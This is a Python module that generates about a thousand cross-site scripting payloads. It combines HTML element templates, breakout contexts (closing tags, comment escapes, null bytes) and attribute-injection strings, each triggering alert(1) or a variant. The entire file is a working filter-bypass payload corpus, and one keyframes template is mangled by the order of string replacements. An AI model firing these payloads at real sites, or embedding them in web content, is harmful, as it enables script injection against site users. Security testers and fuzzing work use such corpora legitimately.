"""A thousand ways to run a script from words: each a template in a context."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

CALL = "alert(1)"
ELEMENTS = (
    "<script>{}</script>",
    "<script src='data:text/javascript,{}'></script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{}</script></svg>#x'>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<details open ontoggle={}>x</details>",
    "<video src=x onerror={}></video>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<form><button formaction='javascript:{}' autofocus onfocus={}>x</button></form>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={}>x</b>",
    "<link rel=stylesheet href=x onerror={}>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<a href='javascript:{}' autofocus onfocus={}>x</a>",
    "<marquee onstart={}>x</marquee>",
    "<base href='javascript:/a/-{}//'><script src=x></script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
)
# What a payload must first break out of, in the places where words are printed.
CONTEXTS = (
    "{}",
    "x{}x",
    "\"'>{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "</style>{}",
    "--><!-- -->{}",
    "]]>{}",
    "<!--{}-->--!>{}",
    "\u0000{}",
    "\ufeff{}",
    "&lt;{}",
    "{{{{ 7 }}}}{}",
    "<x\n{}",
    "<<{}",
)
# Attributes alone, where a quote is left unescaped.
ATTRIBUTES = (
    '" onmouseover={} autofocus onfocus={} x="',
    "' onmouseover={} autofocus onfocus={} x='",
    '"><img src=x onerror={}>',
    "` onfocus={} autofocus x=`",
    "javascript:{}",
    "JaVaScRiPt:{}",
    " \tjavascript:{}",
    "java\nscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
)
CALLS = (CALL, "alert`1`", "window['alert'](1)")


def payloads(count: int = 1000) -> list[str]:
    """So many different ones, the plainest first."""
    return list(itertools.islice(dict.fromkeys(all_payloads()), count))


def all_payloads() -> Iterator[str]:
    for call in CALLS:
        elements = [one.replace("{}", call).replace("{{}}", "{}") for one in ELEMENTS]
        yield from (one.replace("{}", call) for one in ATTRIBUTES)
        for context, element in itertools.product(CONTEXTS, elements):
            yield context.replace("{{{{ 7 }}}}", "{{ 7 }}").replace("{}", element)
